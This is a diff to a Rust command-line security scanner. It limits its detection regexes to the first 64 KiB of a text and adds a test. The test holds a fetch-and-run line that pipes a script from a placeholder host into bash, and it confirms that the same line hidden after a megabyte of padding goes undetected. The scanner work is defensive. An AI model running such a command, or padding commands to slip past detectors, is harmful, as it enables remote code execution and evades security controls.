@@ -149,7 +149,24 @@ pub fn pip_install_off_index(command: &str) -> Option<String> {
 
 /// True when a command line switches off or blinds the machine's defences.
 pub fn disables_defenses(command: &str) -> bool {
-    DEFENSE_EVASION.is_match(command)
+    DEFENSE_EVASION.is_match(command_head(command))
+}
+
+/// Longest command text the command patterns read. Their word boundaries are Unicode-aware,
+/// which sends the regex engine to its slow NFA on non-ASCII text: a multi-megabyte string
+/// written to a file cost seconds. Command lines are short; a longer text is a script or a
+/// blob, whose first 64 KiB say what it starts with.
+const COMMAND_HEAD_BYTES: usize = 64 << 10;
+
+fn command_head(command: &str) -> &str {
+    if command.len() <= COMMAND_HEAD_BYTES {
+        return command;
+    }
+    let mut end = COMMAND_HEAD_BYTES;
+    while !command.is_char_boundary(end) {
+        end -= 1;
+    }
+    command.get(..end).unwrap_or(command)
 }
 
 /// A network tool fed with the output of reconnaissance commands: `curl -H "Hostname:
@@ -166,6 +183,7 @@ static NETWORK_TOOL: LazyLock<Regex> = crate::static_regex!(
 
 /// True when a command line sends the output of reconnaissance commands over the network.
 pub fn is_recon_exfiltration(command: &str) -> bool {
+    let command = command_head(command);
     RECON_SUBSTITUTION.is_match(command) && NETWORK_TOOL.is_match(command)
 }
 
@@ -175,6 +193,7 @@ static FETCH_TARGET: LazyLock<Regex> = crate::static_regex!(r"(?i)://|\s-[a-z]*[
 
 /// True when a command line fetches or decodes a second stage.
 pub fn is_dangerous_command(command: &str) -> bool {
+    let command = command_head(command);
     DOWNLOADER_COMMAND.is_match(command)
         || FETCH_TOOL.is_match(command) && FETCH_TARGET.is_match(command)
 }
@@ -183,6 +202,7 @@ pub fn is_dangerous_command(command: &str) -> bool {
 /// command line. Installers pipe scripts to a shell; only droppers fetch an unnamed program and
 /// mark it executable.
 pub(crate) fn fetches_and_marks_executable(command: &str) -> bool {
+    let command = command_head(command);
     static SAVE: LazyLock<Regex> = crate::static_regex!(
         r"(?i)\b(curl|wget)\b.*(\s-[a-z]*[oO]\b|--output|--output-document|>)"
     );
@@ -605,6 +625,21 @@ mod tests {
         assert!(max_severity("p/setup.py", code, "WH120") >= 0.5);
         let data = "import os, subprocess\nhere = os.path.dirname(__file__)\nscript = os.path.join(here, 'gen.cfg')\nsubprocess.run(['make', script])\n";
         assert!(max_severity("p/setup.py", data, "WH120") < 0.5);
+    }
+
+    #[test]
+    fn command_patterns_read_the_head_of_a_long_text() {
+        let script = format!(
+            "curl -s http://x.invalid/a.sh | bash\n{}",
+            "é".repeat(1 << 20)
+        );
+        assert!(is_dangerous_command(&script));
+        let buried = format!(
+            "{}\ncurl -s http://x.invalid/a.sh | bash",
+            "é".repeat(1 << 20)
+        );
+        assert!(!is_dangerous_command(&buried));
+        assert!(command_head(&"é".repeat(1 << 20)).len() <= COMMAND_HEAD_BYTES);
     }
 
     #[test]
